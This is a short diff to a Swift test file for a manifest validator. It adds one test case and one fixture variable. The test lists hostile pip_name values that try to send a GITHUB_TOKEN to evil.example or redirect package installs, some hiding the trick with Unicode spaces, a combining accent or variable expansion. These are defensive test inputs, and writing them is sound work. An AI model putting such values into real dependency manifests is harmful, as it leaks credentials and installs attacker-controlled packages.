@@ -143,6 +143,7 @@ import Testing
       "modules: {a: {module: a, pip_name: \"a @ http://evil.example/a-1-py3-none-any.whl?\\u00a0://github.com/${GITHUB_TOKEN}\"}}",
       "modules: {a: {module: a, pip_name: \"http://evil.example/a-1.zip?\\u2003://github.com/${GITHUB_TOKEN}\"}}",
       "modules: {a: {module: a, pip_name: \"git+http://evil.example/r?\\u2003://github.com/${GITHUB_TOKEN}\"}}",
+      "modules: {a: {module: a, pip_name: \"a -i https://github.com/e${ACCENT}/x\"}}",
       "modules: {a: {module: a, pip_name: \"a -i https://evil.example/${GITHUB_ORG:-org}\"}}",
       "modules: {a: {module: a, pip_name: \"${OTHER}==${NOWHERE}\"}}",
       "modules: {a: {module: \"${GITHUB_TOKEN}\"}}",
@@ -164,6 +165,7 @@ import Testing
       let fixture = try ManifestFixture(["pinion.yaml": moduleSet(spec), "host.yaml": host(Self.grants)])
       fixture.variables = [
         "GITHUB_TOKEN": "ghp-0123", "OTHER": "oth3r", "ROOT": "/srv", "WORDS": " --extra-index-url=https://u:",
+        "ACCENT": "\u{301}x",
       ]
       try fixture.takeHost("host.yaml")
       let said = fixture.complaints()
